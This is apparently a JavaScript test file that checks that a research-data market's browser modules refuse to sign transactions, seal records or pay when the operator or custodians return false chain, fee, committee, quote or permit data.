/**
 * Run by `node --test`: what the browser's modules sign, seal and believe where the operator or a custodian lies.
 * Every lie here is data of an answer; the modules are the ones that are served.
 */

import assert from "node:assert/strict";
import { test } from "node:test";

import { answering, browserWorld } from "./lying.mjs";

const JS = new URL("../../../web/static/js/", import.meta.url).href;
const world = browserWorld();
const load = (name) => import(`${JS}${name}`);
const names = ["wallet", "tx", "bytes", "keystore", "pin", "writtenout", "stopping", "hash", "walletstop", "stopsigner", "keys", "session", "analysis", "opening_request"];
const [wallet, tx, bytes, keystore, pins, written, stopping, hashes, walletstop, stopsigner, keys, session, analysis, opening] = await Promise.all(names.map((name) => load(`${name}.js`)));

const KEY = new Uint8Array(32).fill(7);
const CHAIN = 31_337;
const TO = `0x${"11".repeat(20)}`;
const WAY = { chainId: CHAIN, nonce: 3, gas: 60_000, maxFeePerGas: 2_000_000_000, maxPriorityFeePerGas: 1_000_000_000 };

const code = (wanted) => (error) => assert.equal(error.code, wanted, error.stack) ?? true;

// --- what a local key signs for the chain

async function sent(way) {
  const posted = answering({ "/transactions/ways": way, "/transactions": {}, "/transactions/": { state: "done", reason: null } });
  await wallet.localSigner(KEY, CHAIN).send({ to: TO, data: Uint8Array.of(1, 2) });
  return posted.find(({ path }) => path === "/transactions").body.raw;
}

test("a transaction is signed without value, whatever the operator proposes", async () => {
  const honest = { ...WAY, to: TO, data: Uint8Array.of(1, 2), value: 0n };
  const wanted = bytes.toHex(tx.signTransaction(honest, KEY).raw);
  assert.equal(await sent({ ...WAY, value: 5_000_000_000_000_000 }), wanted);
  assert.equal(await sent(WAY), wanted);
});

for (const [lie, refused] of [
  [{ chainId: 1 }, "wrong_chain"],
  [{ gas: 16_777_217 }, "too_much_gas"],
  [{ maxFeePerGas: 9_007_199_254_740_991 }, "fee_too_high"],
  [{ maxPriorityFeePerGas: 2_000_000_001 }, "malformed_message"],
  [{ nonce: -1 }, "malformed_message"],
  [{ gas: "60000" }, "malformed_message"],
]) {
  test(`no transaction is signed with ${JSON.stringify(lie)}`, async () => {
    await assert.rejects(sent({ ...WAY, ...lie }), code(refused));
  });
}

test("a fee that is too high is said, in the chain's own coin", async () => {
  await assert.rejects(sent({ ...WAY, gas: 10_000_000, maxFeePerGas: 20_000_000_000 }), /0\.2 of the chain's own coin/);
});

// --- which market this is

const URLS = ["http://127.0.0.1:8101", "http://127.0.0.1:8102", "http://127.0.0.1:8103"];
const keyOf = (n) => `0x${n.toString(16).padStart(2, "0").repeat(32)}`;
const addressOf = (n) => wallet.localSigner(new Uint8Array(32).fill(n)).address;
const committee = (epoch, ...keys) => ({ epoch, quorum: 2, members: keys.map((key, place) => ({ place, key, signer: addressOf(place + 1) })), gates: [] });
const MARKET = {
  chain_id: CHAIN,
  contracts: { ConsentRegistry: addressOf(21), DatasetRegistry: addressOf(22), ResearchMarket: addressOf(23) },
  operator: addressOf(24),
  fee: "5000000",
  token: { address: addressOf(25), decimals: 6, symbol: "EUR" },
  custodians: URLS,
  committee: committee(1, keyOf(1), keyOf(2), keyOf(3)),
};
/** What custodians say at `/health`. */
const { committeeHash } = await load("committee.js");
const seats = (epoch, ...keys) => said(committee(epoch, ...keys));
const said = (whole, places = whole.members.map(({ place }) => place)) => Object.fromEntries(places.map((place) => [`${URLS[place]}/health`, seat(whole, place)]));
const seat = (whole, place) => ({ ready: true, reasons: [], seated: true, place, key: whole.members[place].key, ...known(whole) });
const known = (whole) => ({ epoch: whole.epoch, quorum: whole.quorum, committee: bytes.toHex(committeeHash(whole)) });
const HONEST = seats(1, keyOf(1), keyOf(2), keyOf(3));

let pages = 0;
/** One page, by a module of its own: what it was told of the market is asked anew. */
async function onPage(market, work, others = HONEST) {
  answering({ "/deployment": market, ...others });
  return (await load(`pin.js?page=${++pages}`))[work]();
}

async function atFirst(market = MARKET, others = HONEST) {
  world.forget();
  return onPage(market, "signedFor", others);
}

test("reading alone keeps nothing, and a signature keeps the market", async () => {
  world.forget();
  await onPage(MARKET, "deployment");
  assert.equal(await keystore.pinned(), null);
  assert.equal((await atFirst()).chainId, CHAIN);
  assert.equal((await keystore.pinned()).chainId, CHAIN);
  assert.equal((await onPage(MARKET, "signedFor")).token.decimals, 6);
});

for (const [what, lie, words] of [
  ["chain", { chain_id: 1 }, /the chain \(before: 31337; now: 1\)/],
  ["contract", { contracts: { ...MARKET.contracts, ResearchMarket: addressOf(66) } }, /the contract ResearchMarket/],
  ["missing contract", { contracts: { ConsentRegistry: addressOf(21), DatasetRegistry: addressOf(22) } }, /now: none/],
  ["token", { token: { ...MARKET.token, address: addressOf(66) } }, /the token's address/],
  ["place of the decimal point", { token: { ...MARKET.token, decimals: 12 } }, /the token's decimals \(before: 6; now: 12\)/],
  ["currency", { token: { ...MARKET.token, symbol: "JPY" } }, /the token's symbol/],
]) {
  test(`nothing is signed for a market of another ${what}`, async () => {
    await atFirst();
    const ask = () => onPage({ ...MARKET, ...lie }, "signedFor");
    await assert.rejects(ask(), code("market_changed"));
    await assert.rejects(ask(), words);
    await assert.rejects(onPage({ ...MARKET, ...lie }, "deployment"), code("market_changed"));
    assert.equal((await onPage({ ...MARKET, ...lie }, "knownMarket")).chainId, CHAIN, "a revocation goes where it always went");
  });
}

const down = () => Promise.reject(new TypeError("down"));

test("a revocation is for the market that is known, also while the operator is down", async () => {
  await atFirst();
  const { contracts, custodians } = await onPage(undefined, "knownMarket", { "/deployment": down });
  assert.deepEqual([contracts, custodians], [MARKET.contracts, URLS]);
});

test("what is removed on the page Keys is believed anew", async () => {
  await atFirst();
  await keystore.forgetPin();
  const other = { ...MARKET, chain_id: 1 };
  assert.equal((await onPage(other, "signedFor")).chainId, 1);
});

test("an operator that did not answer is asked again at the next press", async () => {
  world.forget();
  answering({ "/deployment": down });
  await assert.rejects(pins.signedFor(), code("unreachable"));
  answering({ "/deployment": MARKET });
  assert.equal((await pins.signedFor()).chainId, CHAIN);
});

// --- whose keys a record is sealed to

test("a record is sealed to keys that the custodians say are theirs", async () => {
  await atFirst();
  assert.deepEqual((await onPage(MARKET, "confirmedCommittee")).members.map(({ key }) => key), [1, 2, 3].map(keyOf));
  const aQuorum = said(committee(1, keyOf(1), keyOf(2), keyOf(3)), [0, 1]);
  assert.equal((await onPage(MARKET, "confirmedCommittee", aQuorum)).epoch, 1);
});

test("no record is sealed to keys of the operator's", async () => {
  await atFirst();
  for (const keys of [[9, 9, 9], [1, 9, 3], [2, 1, 3]]) {
    const told = { ...MARKET, committee: committee(1, ...keys.map(keyOf)) };
    await assert.rejects(onPage(told, "confirmedCommittee"), code("wrong_committee"));
  }
});

test("no record is sealed to a committee of another epoch or size than the custodians know", async () => {
  await atFirst();
  const old = { ...MARKET, committee: committee(2, keyOf(1), keyOf(2), keyOf(3)) };
  await assert.rejects(onPage(old, "confirmedCommittee"), code("wrong_committee"));
  const short = { ...MARKET, committee: committee(1, keyOf(1), keyOf(2)) };
  await assert.rejects(onPage(short, "confirmedCommittee"), code("wrong_committee"));
});

test("no record is sealed where fewer custodians than a quorum answer", async () => {
  await atFirst();
  const alone = { [`${URLS[0]}/health`]: HONEST[`${URLS[0]}/health`] };
  await assert.rejects(onPage(MARKET, "confirmedCommittee", alone), code("committee_unconfirmed"));
  const twice = Object.fromEntries(URLS.map((url) => [`${url}/health`, HONEST[`${URLS[0]}/health`]]));
  await assert.rejects(onPage(MARKET, "confirmedCommittee", twice), code("committee_unconfirmed"), "one place counts once");
  const shapeless = Object.fromEntries(URLS.map((url) => [`${url}/health`, { ready: true, reasons: [] }]));
  await assert.rejects(onPage(MARKET, "confirmedCommittee", shapeless), code("committee_unconfirmed"));
});

test("keys that were confirmed for an epoch stay its keys", async () => {
  await atFirst();
  await onPage(MARKET, "confirmedCommittee");
  const told = { ...MARKET, committee: committee(1, keyOf(9), keyOf(9), keyOf(9)) };
  const allLie = seats(1, keyOf(9), keyOf(9), keyOf(9));
  await assert.rejects(onPage(told, "confirmedCommittee", allLie), code("market_changed"));
});

test("a new epoch holds where the custodians that this browser knows say so", async () => {
  await atFirst();
  const next = { ...MARKET, custodians: [...URLS.slice(0, 2), "http://127.0.0.1:8104"], committee: committee(2, keyOf(1), keyOf(2), keyOf(4)) };
  const third = { "http://127.0.0.1:8104/health": seat(next.committee, 2) };
  assert.equal((await onPage(next, "signedFor", { ...said(next.committee, [0, 1]), ...third })).committee.epoch, 2);
  assert.deepEqual((await keystore.pinned()).custodians, [...URLS, "http://127.0.0.1:8104"]);
});

test("custodians of a new epoch for whom nobody known speaks are not asked, and nothing is sealed to them", async () => {
  await atFirst();
  const others = ["http://127.0.0.1:8201", "http://127.0.0.1:8202", "http://127.0.0.1:8203"];
  const next = { ...MARKET, custodians: others, committee: committee(2, keyOf(7), keyOf(8), keyOf(9)) };
  const theirs = Object.fromEntries(others.map((url, place) => [`${url}/health`, seat(next.committee, place)]));
  for (const theRest of [HONEST, {}]) {
    assert.deepEqual((await onPage(next, "signedFor", { ...theirs, ...theRest })).custodians, URLS);
    await assert.rejects(onPage(next, "confirmedCommittee", { ...theirs, ...theRest }), code(theRest === HONEST ? "wrong_committee" : "committee_unconfirmed"));
  }
  assert.deepEqual((await keystore.pinned()).custodians, URLS);
});

// --- the question that is paid for

const VARIABLES = [
  { name: "hba1c", kind: "number", lower: "4", upper: "15" },
  { name: "sex", kind: "category" },
];
const asked = (parameters, canonical) => () => written.requireWrittenOut(parameters, canonical, VARIABLES);

test("defaults and other spellings of the same question are the same question", () => {
  const whole = { variable: "hba1c", clip: ["4.0", "15.0"], filters: [], level: "0.5" };
  asked({ variable: "hba1c", level: "0.50" }, whole)();
  const filters = [{ variable: "sex", op: "in", value: ["b", "a"] }, { variable: "hba1c", op: ">=", value: "7.00" }];
  const sorted = [{ op: ">=", value: "7.0", variable: "hba1c" }, { op: "in", value: ["a", "b"], variable: "sex" }];
  asked({ filters: [...filters, filters[0]] }, { filters: sorted })();
  asked({ axes: [{ variable: "sex" }, { variable: "hba1c", edges: ["4", "7.5"] }] }, { axes: [{ variable: "sex" }, { edges: ["4.0", "7.5"], variable: "hba1c" }], filters: [] })();
});

for (const [name, parameters, canonical] of [
  ["variable", { variable: "hba1c" }, { variable: "sex", filters: [] }],
  ["filter", { filters: [] }, { filters: [{ variable: "sex", op: "==", value: "a" }] }],
  ["filter that is missing", { filters: [{ variable: "sex", op: "==", value: "a" }] }, { filters: [] }],
  ["filter's value", { filters: [{ variable: "sex", op: "==", value: "1.0" }] }, { filters: [{ variable: "sex", op: "==", value: "1" }] }],
  ["clip", { variable: "hba1c" }, { variable: "hba1c", clip: ["7.0", "15.0"], filters: [] }],
  ["clip that was chosen", { variable: "hba1c", clip: ["5", "9"] }, { variable: "hba1c", clip: ["4.0", "15.0"], filters: [] }],
  ["edge", { variable: "hba1c", edges: ["4", "7"] }, { variable: "hba1c", edges: ["4.0", "7.1"], filters: [] }],
  ["order of axes", { axes: [{ variable: "sex" }, { variable: "hba1c", edges: ["4"] }] }, { axes: [{ variable: "hba1c", edges: ["4"] }, { variable: "sex" }], filters: [] }],
  ["parameter that nobody asked for", { variable: "hba1c" }, { variable: "hba1c", filters: [], weight: "2" }],
]) {
  test(`a quote for another ${name} is refused`, () => {
    assert.throws(asked(parameters, canonical), code("quote_differs"));
  });
}

test("what is asked is said from what is signed", () => {
  const canonical = { filters: [{ op: ">=", value: "7.0", variable: "hba1c" }], variable: "hba1c", clip: ["4.0", "15.0"] };
  assert.deepEqual(written.askedIn(canonical, []), [["Variable", "hba1c"], ["Values clipped to", "4.0, 15.0"], ["Only patients with", "hba1c >= 7.0"]]);
  const labelled = written.askedIn(canonical, [{ name: "hba1c", label: "Haemoglobin A1c" }]);
  assert.deepEqual(labelled.map(([, value]) => value), ["Haemoglobin A1c", "4.0, 15.0", "Haemoglobin A1c >= 7.0"]);
});

// --- stopping, among liars

const SIGNER = wallet.localSigner(KEY);
const OWN = { dataset: `0x${"d5".repeat(30)}0000`, name: "d", address: SIGNER.address, sequence: 1, chain_id: CHAIN, contracts: MARKET.contracts, custodians: URLS };
const CONSENT = `/api/v1/datasets/${OWN.dataset}/consents/${OWN.address}`;
const superseded = (current) => ({ status: 422, code: "superseded_revocation", detail: `This revocation names sequence 5, but ${current} is in force.`, remedy: "Sign again." });

/** A chain, and a custodian with an honest view of it. */
function chainAt(sequence) {
  const chain = { sequence, block: 17 };
  const honest = ({ revocation }) => {
    if (Number(revocation.sequence) < chain.sequence) return superseded(chain.sequence);
    chain.sequence = Number(revocation.sequence) + 1;
    return { block: chain.block, transaction: "0x00" };
  };
  return { chain, honest };
}

/** Everybody is asked past an operator that is down. */
async function stopped(custodians, own = OWN) {
  const told = Object.fromEntries(custodians.map((answer, i) => [`${URLS[i]}/revocations`, answer]));
  const asked = answering(told);
  const words = [];
  const run = new stopping.Stopping({ ...own, custodians: URLS.slice(0, custodians.length) }, SIGNER, (word) => words.push(word.text));
  await run.askAll();
  return { run, words, signed: asked.filter(({ path }) => path.endsWith("/revocations")).map(({ body }) => Number(body.revocation.sequence)) };
}

test("a custodian that lies of a higher sequence undoes nothing of what another carried", async () => {
  const { chain, honest } = chainAt(1);
  for (const order of [[honest, () => superseded(2 ** 29)], [() => superseded(2 ** 29), honest]]) {
    chain.sequence = 1;
    const { run, signed } = await stopped(order);
    assert.equal(run.custodians.length, 1);
    assert.equal(run.sequence, chain.sequence, "what is kept is what the chain has");
    assert.ok(Math.max(...signed) < 2 ** 22, "nothing was signed for the lie");
  }
});

test("two honest custodians stop it beside a liar, whatever that one says", async () => {
  for (const lie of [() => superseded(2 ** 29), () => superseded(2 ** 32 - 1), () => ({ block: 5 }), down, () => ({ status: 500 })]) {
    const { chain, honest } = chainAt(1);
    const { run } = await stopped([lie, honest, honest]);
    assert.ok(run.custodians.length >= 2);
    assert.ok(chain.sequence > 256);
  }
});

test("what this browser knew was old: it is signed again, as far as two custodians say", async () => {
  const { chain, honest } = chainAt(5_000_000);
  const { run } = await stopped([() => superseded(2 ** 29), honest, honest]);
  assert.deepEqual(run.custodians.length, 2);
  assert.ok(chain.sequence > 5_000_000 && chain.sequence < 8_000_000);
});

test("what this browser knew was old, and one custodian alone is there", async () => {
  const { chain, honest } = chainAt(5_000_000);
  const { run } = await stopped([down, honest, down]);
  assert.equal(run.custodians.length, 1);
  assert.equal(run.sequence, chain.sequence);
});

test("a custodian that pretends to have carried keeps no honest one from it", async () => {
  const { chain, honest } = chainAt(3_000_000);
  const { run } = await stopped([() => ({ block: 5 }), honest]);
  assert.equal(run.custodians.length, 2);
  assert.ok(chain.sequence > 3_000_000);
});

test("one custodian alone, who lies on and on, has no more signed than leaves everything possible", async () => {
  let claim = 1;
  const { run, signed } = await stopped([({ revocation }) => superseded((claim = Number(revocation.sequence) + 2 ** 28)), down]);
  assert.deepEqual(run.saying, []);
  assert.ok(new Set(signed).size <= 4);
  assert.ok(Math.max(...signed) <= 2 ** 30);
});

test("custodians that lie together on and on come to an end", async () => {
  const lie = ({ revocation }) => superseded(Number(revocation.sequence) + 300);
  const { run, signed } = await stopped([lie, lie]);
  assert.deepEqual(run.saying, []);
  assert.equal(new Set(signed).size, 4);
});

test("a sequence that is told is believed near what this browser knew", () => {
  assert.equal(stopping.believable(7, 5), 7);
  assert.equal(stopping.believable(5 + 2 ** 22, 5), 5 + 2 ** 22);
  for (const lie of [6 + 2 ** 22, 2 ** 30, -1, 1.5, "7", undefined]) assert.equal(stopping.believable(lie, 5), 5);
  assert.equal(stopping.believable(2 ** 30), 0, "and nothing known is nothing believed");
});

// --- stopping by a wallet

const REVOKED = bytes.toHex(hashes.keccakText("Revoked(address,bytes32,uint32)"));
const word = (hex) => `0x${hex.replace(/^0x/, "").toLowerCase().padStart(64, "0")}`;
const LOG = { address: MARKET.contracts.ConsentRegistry.toLowerCase(), topics: [REVOKED, word(OWN.address), OWN.dataset], data: word("0x2") };

async function byWallet({ logs = [LOG], codeThere = "0x60", status = "0x1" }) {
  const said = {
    eth_requestAccounts: [SIGNER.address],
    eth_chainId: "0x7a69",
    eth_getCode: codeThere,
    eth_sendTransaction: `0x${"aa".repeat(32)}`,
    eth_getTransactionReceipt: { status, logs },
  };
  const provider = { request: async ({ method }) => said[method] };
  return walletstop.revokeByWallet(OWN, await stopsigner.walletOf(OWN, provider));
}

test("a wallet has stopped it once the contract itself says so", async () => {
  await byWallet({});
});

for (const [name, lie, refused] of [
  ["an address without code", { codeThere: "0x" }, "no_contract"],
  ["a contract that says nothing", { logs: [] }, "not_stopped"],
  ["another contract's word", { logs: [{ ...LOG, address: addressOf(66) }] }, "not_stopped"],
  ["a word about another patient", { logs: [{ ...LOG, topics: [REVOKED, word(addressOf(66)), OWN.dataset] }] }, "not_stopped"],
  ["a word about another dataset", { logs: [{ ...LOG, topics: [REVOKED, word(OWN.address), word("0x01")] }] }, "not_stopped"],
  ["another word", { logs: [{ ...LOG, topics: [word("0x01"), word(OWN.address), OWN.dataset] }] }, "not_stopped"],
  ["a transaction that failed", { status: "0x0" }, "transaction_failed"],
]) {
  test(`a wallet's transaction to ${name} has stopped nothing`, async () => {
    await assert.rejects(byWallet(lie), code(refused));
  });
}

// --- what is paid with, and to whom

const ZERO = `0x${"00".repeat(32)}`;
const TERMS = {
  permission: 1, disease: 0, modifiers: 0, researchTypes: 0, countries: [], months: 0, users: [], projects: [], institutions: [],
  releaseKinds: 1, maxCost: "1000000", floorPerRecord: "50000", floorPerMilliRho: "0", termsHash: ZERO,
};
const PURPOSE = { uses: 1, diseases: [], commercial: false, clinicalCare: false, months: 0, project: ZERO, ethicsApproval: ZERO, duties: 0 };
const QUESTION = { lane: 1, dataset: OWN.dataset, classes: [1], analysis: "mean.v1", parameters: { variable: "hba1c" }, cost: 1_000_000 };
const WRITTEN = { variable: "hba1c", clip: ["4.0", "15.0"], filters: [] };
const QUOTE = {
  canonical: WRITTEN,
  analysis_hash: bytes.toHex(analysis.analysisHash("mean.v1")),
  parameters_hash: bytes.toHex(analysis.parametersHash(WRITTEN)),
  cost_nano_rho: 1_000_000, price_per_member: 50_000, fee: 0, max_patients: 20, escrow: 1_000_000, release_kind: 1, lane: 1,
};

test("a permit is for the market's own token alone", async () => {
  await atFirst();
  const key = new Uint8Array(32).fill(9);
  const me = wallet.localSigner(key).address;
  const told = {
    "/session": { account: me, expires_at: 9e9 },
    "/session/half": { half: "ab".repeat(32) },
    "/deployment": MARKET,
    "/ask/opening": { now: 1_800_000_000, notice_window: 60, freeze_window: 60, turn_window: 600, token: addressOf(66), balance: "1000000000000", permit: null },
  };
  const asked = answering(told);
  await session.stayUnlocked({ root: keys.Root.generate(), datasets: [], imported: [{ label: "researcher", key }] });
  const bought = { question: QUESTION, quote: QUOTE, purpose: PURPOSE, classes: [TERMS], variables: VARIABLES, token: MARKET.token };
  await assert.rejects(opening.buy(bought, () => {}), (error) => assert.match(error.message, /another token/) ?? true);
  assert.ok(!asked.some(({ path }) => path.startsWith("/transactions") || path === "/ask/requests"));
});

test("nothing is paid on a quote whose canonical question is another", () => {
  const lie = { ...QUOTE, canonical: { variable: "sex", filters: [] } };
  const signed = { ...lie, parameters_hash: bytes.toHex(analysis.parametersHash(lie.canonical)) };
  const offer = { question: QUESTION, quote: signed, purpose: PURPOSE, classes: [TERMS], variables: VARIABLES };
  assert.throws(() => opening.requireHonest(offer), code("quote_differs"));
  assert.throws(() => opening.requireHonest({ ...offer, quote: { ...QUOTE, lane: 2 } }), code("quote_differs"));
  opening.requireHonest({ ...offer, quote: QUOTE });
});

// --- paying: what was shown, and once

const [openings, recourse, eip712, requestIds, solidity] = await Promise.all(["openings", "recourse", "eip712", "terms", "solidity"].map((name) => load(`${name}.js`)));
const PAYER = new Uint8Array(32).fill(9);
const ME = wallet.localSigner(PAYER).address;
const OFFER = { question: QUESTION, quote: QUOTE, purpose: PURPOSE, classes: [TERMS], variables: VARIABLES, token: MARKET.token };
const EURO = { name: "Euro", version: "1", chainId: CHAIN, verifyingContract: MARKET.token.address };
const SEPARATOR = bytes.toHex(eip712.separator(EURO));
const FAILED = { state: "failed", reason: { code: "transaction_failed", message: "It failed.", remedy: "Try again.", field: null } };
const taken = ({ terms }) => ({ request: bytes.toHex(requestIds.requestId(CHAIN, MARKET.contracts.ResearchMarket, ME, solidity.fromJson("RequestTerms", terms))) });

/** What this site answers a page on which somebody asks; what it says of what it is handed, and before of what it was handed earlier. */
function asking({ nonce = 0, number = nonce, ways, posted = {}, state = { state: "done" }, earlier = FAILED, now = secondsNow() } = {}) {
  const permit = { name: "Euro", version: "1", nonce: String(number), separator: SEPARATOR };
  const asked = answering({
    "/session": { account: ME, expires_at: 9e9 },
    "/session/half": { half: "ab".repeat(32) },
    "/deployment": MARKET,
    "/ask/opening": { now, notice_window: 60, freeze_window: 60, turn_window: 600, token: MARKET.token.address, balance: "1000000000000", permit },
    "/ask/requests": taken,
    "/transactions/ways": ways ?? { ...WAY, nonce, gas: 900_000 },
    "/transactions": posted,
    "/transactions/": () => (asked.some(({ path }) => path === "/transactions") ? state : earlier),
  });
  return asked;
}

const secondsNow = () => Math.floor(Date.now() / 1_000);
const handedOver = (asked) => asked.filter(({ path }) => path === "/transactions").map(({ body }) => body.raw);
const withKeys = () => session.stayUnlocked({ root: keys.Root.generate(), datasets: [], imported: [{ label: "researcher", key: PAYER }] });
const bought = (offer) => opening.buy(offer, () => {}).catch((error) => error);

/** One press of "Ask and pay". */
async function paid({ offer = OFFER, ...answers } = {}) {
  const asked = asking(answers);
  await withKeys();
  const outcome = await bought(offer);
  return { outcome, raws: handedOver(asked) };
}

/** For so many patients, and so for so much. */
const costing = (patients) => ({ ...OFFER, quote: { ...QUOTE, max_patients: patients, escrow: patients * 50_000 } });

test("what was agreed to was shown in the token that is paid with", async () => {
  for (const lie of [{ decimals: 12 }, { symbol: "JPY" }, { address: addressOf(66) }]) {
    await atFirst();
    const { outcome, raws } = await paid({ offer: { ...OFFER, token: { ...MARKET.token, ...lie } } });
    assert.equal(outcome.code, "market_changed", outcome.stack);
    assert.deepEqual(raws, []);
  }
  await atFirst();
  assert.equal((await paid({ offer: { ...OFFER, token: undefined } })).outcome.code, "market_changed");
});

/** The transaction's number: what stands behind the chain's id. */
const numberIn = (raw) => Number(`0x${/^0x02f9[0-9a-f]{4}827a69([0-9a-f]{2})/.exec(raw)[1]}`) % 0x80;

const calls = await load("calls.js");
const OPEN = calls.CALLS["ResearchMarket.openWithPermit"][0].slice(2);

/** The permit that an opening brings: value, deadline, and which of these numbers of the token's it is signed with. */
function permitIn(raw, numbers = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9]) {
  const data = raw.slice(raw.indexOf(OPEN) + OPEN.length);
  const [value, deadline, v, r, s] = Array.from({ length: 5 }, (_, i) => data.slice(64 * (i + 2), 64 * (i + 3)));
  const signature = bytes.fromHex(`0x${r}${s}${v.slice(62)}`, "signature", 65);
  const [given, domain] = [{ owner: ME, spender: MARKET.contracts.ResearchMarket, value: BigInt(`0x${value}`), deadline: BigInt(`0x${deadline}`) }, EURO];
  const isIts = (nonce) => eip712.recovered(eip712.digest("Permit", { ...given, nonce: BigInt(nonce) }, domain), signature) === ME;
  return { ...given, number: numbers.find(isIts) };
}

const permitsOf = (...presses) => presses.flatMap(({ raws }) => raws.map((raw) => permitIn(raw).number));
const numbersOf = (...presses) => presses.flatMap(({ raws }) => raws.map(numberIn));

test("what is signed in the place of an opening that is said to have failed pays by the same permit, so one of them is paid", async () => {
  await atFirst();
  const first = await paid({ nonce: 4, number: 3, state: FAILED });
  assert.equal(first.outcome.code, "transaction_failed");
  assert.match(first.outcome.remedy, /at most one of them is paid/);
  const again = await paid({ nonce: 5, number: 3, state: FAILED });
  const more = await paid({ nonce: 6, number: 2 });
  assert.deepEqual(permitsOf(first, again, more), [3, 3, 3], "also where the operator tells an older number");
  assert.deepEqual(numbersOf(first, again, more), [4, 5, 6], "one that failed in its block used its number up, and holds up nobody");
  assert.match(more.outcome, /^0x/);
  assert.deepEqual(permitsOf(await paid({ nonce: 7, number: 4 })), [4], "what is paid is over");
});

test("what was not even answered may be paid all the same", async () => {
  await atFirst();
  const busy = { status: 503, code: "busy", detail: "Later.", remedy: "Later." };
  assert.deepEqual(permitsOf(await paid({ nonce: 4, posted: busy })), [4]);
  assert.deepEqual(permitsOf(await paid({ nonce: 5, number: 4, state: busy })), [4]);
  const unsaid = await paid({ nonce: 5, number: 4, earlier: busy });
  assert.deepEqual([unsaid.outcome.code, unsaid.raws], ["busy", []]);
  const unknown = { status: 404, code: "unknown_transaction", detail: "No.", remedy: "No." };
  assert.deepEqual(permitsOf(await paid({ nonce: 5, number: 4, earlier: unknown })), [4]);
});

test("a permit went out with what was asked of gas, though no opening did", async () => {
  await atFirst();
  const refused = { status: 422, code: "price_below_floor", detail: "No.", remedy: "Ask again." };
  const unsent = await paid({ nonce: 4, number: 3, ways: refused });
  assert.deepEqual([unsent.outcome.code, unsent.outcome.remedy, unsent.raws], ["price_below_floor", "Ask again.", []]);
  assert.deepEqual(permitsOf(await paid({ nonce: 4, number: 3, state: FAILED })), [3]);
});

test("an earlier opening that is in a block after all is told before another is signed", async () => {
  await atFirst();
  await paid({ nonce: 4, state: FAILED });
  const told = await paid({ nonce: 5, earlier: { state: "done" } });
  assert.deepEqual([told.outcome.code, told.raws], ["opened_before", []]);
  assert.deepEqual(permitsOf(await paid({ nonce: 5 })), [5]);
});

/** This computer's clock goes on by so much. */
async function later(seconds, work) {
  const real = Date.now;
  Date.now = () => real() + seconds * 1_000;
  try {
    return await work();
  } finally {
    Date.now = real;
  }
}

test("an opening that no block can take any more holds up nothing", async () => {
  await atFirst();
  const first = await paid({ nonce: 4, state: FAILED });
  const { deadline } = permitIn(first.raws[0]);
  const left = Number(deadline) - secondsNow();
  assert.deepEqual(permitsOf(await later(left + 500, () => paid({ nonce: 5, number: 4, state: FAILED, now: secondsNow() }))), [4], "a block's clock may be behind");
  world.forget();
  await atFirst();
  await paid({ nonce: 4, state: FAILED });
  assert.deepEqual(permitsOf(await later(left + 700, () => paid({ nonce: 5 }))), [5]);
});

test("nothing is signed that could be used for longer than 32 days, or that is over by this computer's clock", async () => {
  await atFirst();
  const day = 86_400;
  for (const now of [secondsNow() + 32 * day, secondsNow() + 400 * day, secondsNow() - day]) {
    const { outcome, raws } = await paid({ now });
    assert.deepEqual([outcome.code, raws], ["clocks_differ", []], outcome.stack);
    assert.match(outcome.remedy, /Nothing was signed/);
  }
  assert.match((await paid({ now: secondsNow() + 31 * day })).outcome, /^0x/);
  assert.deepEqual(permitsOf(await paid({ nonce: 1 })), [1], "and what was refused locks nothing");
});

test("a permit holds as long as its opening, and no longer", async () => {
  await atFirst();
  const now = secondsNow() + 7;
  const { raws } = await paid({ now });
  assert.equal(permitIn(raws[0]).deadline, BigInt(now + 60 + 1_200));
});

test("two that one permit could pay together are never out at once", async () => {
  await atFirst();
  await paid({ nonce: 4, state: FAILED, offer: costing(100) });
  assert.equal((await paid({ nonce: 5, number: 4, state: FAILED, offer: costing(50) })).outcome.code, "transaction_failed", "each of two needs what the other has taken");
  const third = await paid({ nonce: 6, number: 4, offer: costing(50) });
  assert.deepEqual([third.outcome.code, third.raws], ["two_could_be_paid", []]);
  assert.match(third.outcome.remedy, /Nothing was signed. Wait until/);
  assert.deepEqual(permitsOf(await paid({ nonce: 6, number: 4, state: FAILED, offer: costing(51) })), [4]);
  assert.equal((await paid({ nonce: 7, number: 4, state: FAILED, offer: costing(101) })).outcome.code, "two_could_be_paid", "nor by a larger one that comes after them");
  assert.match((await paid({ nonce: 7, number: 4, offer: costing(100) })).outcome, /^0x/);
});

test("a permit that somebody showed in time pays for longer, and counts until one is paid", async () => {
  await atFirst();
  await paid({ nonce: 4, state: FAILED, offer: costing(100) });
  await later(10_000, async () => {
    assert.deepEqual(permitsOf(await paid({ nonce: 5, state: FAILED, offer: costing(40) })), [5]);
    assert.equal((await paid({ nonce: 6, number: 5, offer: costing(40) })).outcome.code, "two_could_be_paid");
    assert.match((await paid({ nonce: 6, number: 5, offer: costing(90) })).outcome, /^0x/);
    await paid({ nonce: 7, state: FAILED, offer: costing(40) });
    assert.match((await paid({ nonce: 7, offer: costing(40) })).outcome, /^0x/, "what was paid used up what was left");
  });
});

/** A token that takes each permit's number once, and an operator that shows permits and has openings mined as it likes. */
function tokenOf() {
  const token = { number: 0, allowance: 0, paid: [] };
  const shown = ({ number, value }, { number: next, allowance }) => (number === next ? { number: next + 1, allowance: value } : { number: next, allowance });
  token.show = (permit) => Object.assign(token, shown(permit, token));
  token.mine = (permit) => {
    const { number, allowance } = shown(permit, token);
    if (allowance < permit.value || token.paid.includes(permit)) return false;
    Object.assign(token, { number, allowance: allowance - permit.value });
    token.paid.push(permit);
    return true;
  };
  return token;
}

const PAYING = { chainId: CHAIN, market: MARKET.contracts.ResearchMarket, account: ME };

/** One press for so many units, told this number: what was signed, and how it ended; `says` whether it is told as paid. */
async function pressed(value, number, says) {
  answering({ "/transactions/": FAILED });
  const wanted = { permit: String(number), until: secondsNow() + 2_000, escrow: BigInt(value) };
  let permit = null;
  const prepare = async (given) => (permit = { number: Number(given), value });
  const send = async (_, { signed }) => {
    await signed({ hash: `0x${"7".repeat(64)}` });
    if (!says(permit)) throw Object.assign(new Error("failed"), { code: "failed" });
  };
  const end = await openings.waitingOf(PAYING).then((before) => openings.openOnce(PAYING, before, wanted, { kind: "local", prepare, send })).then(() => "done", ({ code: why }) => why);
  return { permit, end };
}

const never = () => false;

test("what a permit that was shown has left after one is paid counts until it is spent", async () => {
  await atFirst();
  const token = tokenOf();
  const dear = await pressed(100, 0, never);
  token.show(dear.permit);
  assert.equal((await pressed(60, 0, token.mine)).end, "done");
  assert.equal(token.allowance, 40);
  const cheap = await pressed(20, 7, never);
